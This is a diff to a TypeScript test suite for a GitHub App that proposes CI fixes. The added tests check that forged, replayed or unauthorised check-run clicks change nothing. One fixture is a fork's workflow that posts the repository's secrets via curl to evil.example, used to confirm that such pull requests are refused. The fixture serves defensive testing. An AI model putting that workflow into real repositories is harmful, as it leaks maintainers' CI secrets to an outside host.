@@ -5,7 +5,7 @@
 // a red build's on the pull request's head; the buttons Retry and Apply fix are clicked
 // as `check_run.requested_action` deliveries.
 import { execFileSync } from "node:child_process";
-import { mkdtemp, writeFile } from "node:fs/promises";
+import { mkdir, mkdtemp, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { Probot, ProbotOctokit } from "probot";
@@ -97,7 +97,7 @@ async function issueRepository() {
 }
 
 /** main with a correct cart, and pull request #7 that breaks it (for a fork: only as refs/pull/7/head). */
-async function redPullRequest(fork: boolean) {
+async function redPullRequest(fork: boolean, extra: Record<string, string> = {}) {
   const config = `triggers:\n  ciFailure: auto\n${PYTEST}`;
   const work = await gitRepo({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": TESTS, ".github/autogen.yml": config });
   remote = join(root, "remote.git");
@@ -105,6 +105,11 @@ async function redPullRequest(fork: boolean) {
   const baseSha = sh(work, "rev-parse", "HEAD");
   sh(work, "switch", "--quiet", "--create", "feature/bulk");
   await writeFile(join(work, "shop/cart.py"), CART_PR);
+  for (const [path, text] of Object.entries(extra)) {
+    await mkdir(join(work, path, ".."), { recursive: true });
+    await writeFile(join(work, path), text);
+  }
+  sh(work, "add", "--all");
   sh(work, "-c", "user.name=Dev", "-c", "user.email=dev@example.invalid", "commit", "--quiet", "--all", "--message", "Add bulk totals");
   const headSha = sh(work, "rev-parse", "HEAD");
   sh(work, "push", "--quiet", remote, fork ? "HEAD:refs/pull/7/head" : "feature/bulk");
@@ -131,6 +136,9 @@ async function redPullRequest(fork: boolean) {
   payload.installation = { id: 99, node_id: "MDIz" };
   return { headSha, workflowRun: payload };
 }
+
+/** What GitHub was asked to change since request `since` (minting an installation token changes nothing). */
+const writesSince = (since: number) => github.requests.slice(since).filter((r) => r.method !== "GET" && r.operation !== "apps/create-installation-access-token").map((r) => `${r.method} ${r.path}`);
 
 const operationIndex = (operation: string, predicate: (body: Record<string, unknown> | undefined) => boolean = () => true) => github.requests.findIndex((r) => r.operation === operation && predicate(r.body));
 
@@ -264,5 +272,91 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
     expect(github.calls("pulls/create")).toHaveLength(1);
     // The update after applying sent no annotations again.
     expect(run.annotations).toHaveLength(annotations);
+  });
+
+  it("forged clicks on a fork's check run: another App's run, another repository, another installation, a job of another repository, bad external ids, unknown actions, a reader, a bot, a moved head; then a replayed Apply fix: none writes anything to GitHub", async () => {
+    const { headSha, workflowRun } = await redPullRequest(true);
+    const { probot, idle } = await startApp();
+    await probot.receive({ id: "red-fork-forged", name: "workflow_run", payload: workflowRun } as never);
+    await idle();
+    const run = checkRuns()[0] as FakeCheckRun;
+    expect(run.actions.map((a) => a.identifier)).toEqual(["retry", "apply"]);
+    const job = (await store.latest("octo-org", "shop", 7)) as NonNullable<Awaited<ReturnType<typeof store.latest>>>;
+    const ref = { id: run.id, head_sha: run.head_sha, external_id: run.external_id };
+    // The same job, as if it were another repository's (the same check run recorded): its id is a valid external id elsewhere.
+    const copied = await store.enqueue({ ...job, deliveryId: "other-repo-job", repo: "other", checkpoint: undefined });
+    if (!copied.queued) throw new Error("the other repository's job was not stored");
+    await store.checkpoint(copied.job.id, job.checkpoint);
+    await store.finish(copied.job.id, "done");
+    const jobsBefore = await store.countJobs("octo-org", "shop", 7, "ci");
+
+    let n = 0;
+    const forged = async (payload: Record<string, unknown>) => {
+      const before = github.requests.length;
+      await probot.receive({ id: `forged-${++n}`, name: "check_run", payload } as never);
+      return writesSince(before);
+    };
+    const clickWith = (change: (p: Record<string, unknown> & { check_run: Record<string, unknown> }) => void, identifier = "apply", sender = "maintainer") => {
+      const payload = click(ref, identifier, sender);
+      change(payload);
+      return payload;
+    };
+    const attacks: Array<[string, Record<string, unknown>]> = [
+      ["another App's check run", click(ref, "apply", "maintainer", 4242)],
+      ["no app on the check run", clickWith((p) => (p.check_run.app = null))],
+      ["another check run name", clickWith((p) => (p.check_run.name = "autogen-ci"))],
+      ["another check run of ours", click({ ...ref, id: ref.id + 1 }, "apply")],
+      ["another commit", click({ ...ref, head_sha: "f".repeat(40) }, "apply")],
+      ["the click from another repository", clickWith((p) => (p.repository = { ...(p.repository as object), name: "other", full_name: "octo-org/other" }))],
+      ["the click from another owner", clickWith((p) => (p.repository = { ...(p.repository as object), full_name: "evil/shop", owner: { ...(p.repository as { owner: object }).owner, login: "evil" } }))],
+      ["the click from another installation", clickWith((p) => (p.installation = { id: 100, node_id: "MDIz" }))],
+      ["the click with no installation", clickWith((p) => delete p.installation)],
+      ["an external id naming another repository's job", click({ ...ref, external_id: String(copied.job.id) }, "apply")],
+      ...["", "abc", ` ${ref.external_id}`, `${ref.external_id} `, `${ref.external_id}/../1`, `0x${Number(ref.external_id).toString(16)}`, `${ref.external_id}.0`, "-1", "1e3", "9".repeat(13), "999999"].map((id): [string, Record<string, unknown>] => [`external id ${JSON.stringify(id)}`, click({ ...ref, external_id: id }, "apply")]),
+      ["a null external id", clickWith((p) => (p.check_run.external_id = null))],
+      ...["Apply", "apply ", "apply\n", "merge", "", "retry;apply", "__proto__", "constructor"].map((id): [string, Record<string, unknown>] => [`identifier ${JSON.stringify(id)}`, click(ref, id)]),
+      ["no requested action", clickWith((p) => delete p.requested_action)],
+      ["Apply fix by a reader", click(ref, "apply", "contributor")],
+      ["Apply fix by a stranger", click(ref, "apply", "nobody")],
+      ["Retry by a reader", click(ref, "retry", "contributor")],
+      ["Apply fix by a bot with write access", clickWith((p) => (p.sender = { ...(p.sender as object), login: "maintainer", type: "Bot" }))],
+    ];
+    for (const [what, payload] of attacks) expect(await forged(payload), what).toEqual([]);
+    expect(state.pulls).toEqual([]);
+    expect(await store.countJobs("octo-org", "shop", 7, "ci")).toBe(jobsBefore);
+    const branch = `autogen/fix-7-${headSha.slice(0, 7)}`;
+    expect(execFileSync("git", ["--git-dir", remote, "for-each-ref", "--format=%(refname)", `refs/heads/${branch}`], { encoding: "utf8" })).toBe("");
+
+    // The pull request's head moved since the fix was found: refused, nothing written.
+    const pr = state.prs?.[7];
+    if (!pr) throw new Error("no PR 7");
+    pr.headSha = "e".repeat(40);
+    expect(await forged(click(ref, "apply")), "Apply fix after the head moved").toEqual([]);
+    pr.headSha = headSha;
+
+    // The real click opens one PR; every later click (a replay, a double click) writes nothing.
+    await probot.receive({ id: "apply-real", name: "check_run", payload: click(ref, "apply") } as never);
+    expect(state.pulls).toHaveLength(1);
+    expect(await forged(click(ref, "apply")), "a second Apply fix").toEqual([]);
+    const before = github.requests.length;
+    await probot.receive({ id: "apply-real", name: "check_run", payload: click(ref, "apply") } as never);
+    expect(writesSince(before), "the same delivery again").toEqual([]);
+    expect(state.pulls).toHaveLength(1);
+    expect(github.calls("pulls/create")).toHaveLength(1);
+  });
+
+  it("Apply fix on a fork whose pull request changes its workflows: refused, nothing written (on a branch of this repository they would run with its secrets)", async () => {
+    const exfiltrate = "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://evil.example/\n";
+    const { headSha, workflowRun } = await redPullRequest(true, { ".github/workflows/ci.yml": exfiltrate });
+    const { probot, idle } = await startApp();
+    await probot.receive({ id: "red-fork-workflows", name: "workflow_run", payload: workflowRun } as never);
+    await idle();
+    const run = checkRuns()[0] as FakeCheckRun;
+    expect(run.actions.map((a) => a.identifier)).toEqual(["retry", "apply"]);
+    const before = github.requests.length;
+    await probot.receive({ id: "apply-workflows", name: "check_run", payload: click({ id: run.id, head_sha: run.head_sha, external_id: run.external_id }, "apply") } as never);
+    expect(writesSince(before)).toEqual([]);
+    expect(state.pulls).toEqual([]);
+    expect(execFileSync("git", ["--git-dir", remote, "for-each-ref", "--format=%(refname)", `refs/heads/autogen/fix-7-${headSha.slice(0, 7)}`], { encoding: "utf8" })).toBe("");
   });
 });
